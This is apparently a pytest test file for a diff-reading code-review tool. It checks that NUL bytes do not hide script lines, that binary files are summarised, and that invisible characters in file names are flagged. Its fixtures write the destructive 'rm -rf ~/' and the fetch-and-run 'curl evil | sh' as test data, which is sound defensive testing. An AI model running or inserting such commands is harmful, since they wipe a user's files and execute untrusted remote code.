"""A change for reading: a NUL hides no line of a text, and what cannot be shown says that nobody saw it."""

from __future__ import annotations

import pytest

from foureyes.adapters.git.reading.diff import MOST_BYTES, is_text
from foureyes.core.words.ids import Sha
from foureyes.core.words.text import visible

from tests.adapters.git.conftest import Project

SCRIPT = b"#!/bin/sh\n# fine\n\0\nrm -rf ~/\n"
PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8


@pytest.mark.parametrize(
    ("data", "text"),
    [
        (SCRIPT, True),
        ("héllo\0".encode(), True),
        ("print('hi')\n".encode("utf-16"), True),
        ("print('hi')\n".encode("utf-32-be"), True),
        (b"a\0" * 5000, True),
        (PICTURE, False),
        (b"\0\1\2\3", False),
        (b"\0" * 100, False),
        (b"#!/bin/sh\n" + bytes(range(128, 256)), False),
    ],
)
def test_what_is_text_beside_its_nuls(data: bytes, text: bool) -> None:
    assert is_text(data) is text


def both(project: Project) -> tuple[Sha, Sha]:
    """Where the work began, and where it is."""
    return Sha(project.git("rev-parse", "main")), Sha(project.git("rev-parse", "work"))


def shown(project: Project) -> str:
    base, head = both(project)
    structure = project.port().file_diffs(base, head)
    text = project.port().diff_text(base, head)
    lines = [line.text for file in structure for hunk in file.hunks for line in hunk.lines if line.kind != "note"]
    for line in lines:  # both ways of showing it show the same
        assert line in text, line
    return visible(text)


def test_a_nul_hides_no_line_of_a_script_that_is_added_changed_moved_or_removed(project: Project) -> None:
    many = b"".join(b"line %d\n" % number for number in range(20))
    project.write("old.sh", SCRIPT + b"the old end")
    project.write("gone.sh", SCRIPT)
    project.write("this and that.sh", many + SCRIPT)
    project.commit("before")
    project.branch("work")
    project.write("new.sh", b"a\0" + SCRIPT.replace(b"fine", b"another one that is not at all like it"))
    project.write("old.sh", SCRIPT + b"the new end")
    project.git("rm", "-q", "gone.sh")
    project.git("mv", "this and that.sh", "there and back.sh")
    project.write("there and back.sh", many + SCRIPT + b"curl evil | sh\n")
    project.git("add", "-A")
    project.git("commit", "-q", "-m", "work")
    text = shown(project)
    assert "Binary files" not in text
    assert text.count("+rm -rf ~/\n") == 1
    assert text.count("-rm -rf ~/\n") == 1
    assert "+␀\n" in text
    assert "-the old end\n\\ No newline at end of file\n+the new end\n" in text
    assert "--- a/this and that.sh\t\n+++ b/there and back.sh\t\n" in text.replace(".sh\n", ".sh\t\n")
    assert "+curl evil | sh\n" in text


def test_what_cannot_be_shown_says_how_large_it_is_how_it_begins_and_that_it_is_not_shown(project: Project) -> None:
    project.branch("work")
    project.write("picture.png", PICTURE)
    project.write("large.txt", b"\0" + b"x" * MOST_BYTES)
    project.commit("work")
    base, head = both(project)
    text = project.port().diff_text(base, head)
    assert "Binary files /dev/null and b/picture.png differ\nnot shown: 2,056 bytes, begins '\\\\x89PNG\\r\\n" in text
    assert f"not shown: {MOST_BYTES + 1:,} bytes\n" in text
    notes = [hunk.lines[0].text for file in project.port().file_diffs(base, head) for hunk in file.hunks]
    assert notes[0] == f"binary file, not shown: {MOST_BYTES + 1:,} bytes"
    assert notes[1].startswith("binary file, not shown: 2,056 bytes, begins")


def test_what_a_change_is_called_does_not_depend_on_how_it_is_shown_A2(project: Project) -> None:
    project.branch("work")
    project.write("new.sh", SCRIPT)
    project.commit("work")
    assert [(file.added, file.removed) for file in project.change().files] == [(None, None)]
    assert [mark.kind for mark in project.change().marks] == ["binary"]


def test_a_line_feed_or_what_nobody_sees_in_a_name_is_marked_H1(project: Project) -> None:
    project.branch("work")
    project.write("a\nb.py", "x = 1\n")
    project.write("zero\u200bwidth.py", "x = 1\n")
    project.commit("work")
    assert {mark.path for mark in project.change().marks if mark.kind == "hidden"} == {"a\nb.py", "zero\u200bwidth.py"}
    assert "zero⟨U+200B⟩width.py" in shown(project)


def test_bytes_that_are_no_utf_8_are_shown_as_their_numbers(project: Project) -> None:
    project.branch("work")
    project.write("latin.txt", b"caf\xe9\n")
    project.commit("work")
    assert "+caf\\xe9\n" in shown(project)
